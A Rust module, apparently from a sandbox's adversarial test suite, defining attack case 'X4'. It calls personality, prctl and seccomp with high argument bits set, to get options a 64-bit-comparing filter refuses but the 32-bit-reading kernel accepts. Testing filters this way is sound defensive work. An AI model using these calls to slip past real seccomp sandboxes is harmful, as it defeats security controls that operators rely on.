//! X4: gives refused options with bits that the kernel drops.

use std::io;

use crate::attack::Attack;
use crate::attacks::kernel::{Word, sys};
use crate::attacks::proof;

/// Bits above the 32nd.
const HIGH: u64 = 0x1_0000_0000;
const ALL_HIGH: u64 = 0xffff_ffff_0000_0000;

const ROW: Attack = Attack {
    id: "X4",
    what: "gets a refused option because the filter compares all 64 bits and the kernel only 32",
    prepare: proof::demanded,
    ..Attack::ROW
};

pub(super) const PERSONALITY: Attack = Attack {
    name: "personality-high-word",
    attack: |args| either(args, |high| sys!(SYS_personality, high | 0x0040_0000)),
    ..ROW
};

pub(super) const PRCTL: Attack = Attack {
    name: "prctl-high-word",
    attack: |args| either(args, |high| sys!(SYS_prctl, high | TASK_PERF_EVENTS_DISABLE, 0, 0, 0, 0)),
    ..ROW
};

pub(super) const SECCOMP: Attack = Attack {
    name: "seccomp-high-word",
    attack: |args| {
        let lines = [libc::sock_filter { code: 6, jt: 0, jf: 0, k: libc::SECCOMP_RET_ALLOW }];
        let program = [1, lines.as_ptr().word()];
        sys!(SYS_prctl, libc::PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0)?;
        either(args, |high| sys!(SYS_seccomp, high | 1, high | NEW_LISTENER, &program))
    },
    ..ROW
};

const TASK_PERF_EVENTS_DISABLE: u64 = 31;
const NEW_LISTENER: u64 = 8;

fn either(args: &[String], call: impl Fn(u64) -> io::Result<usize>) -> io::Result<()> {
    call(HIGH).or_else(|_| call(ALL_HIGH))?;
    proof::show(args, 0)
}
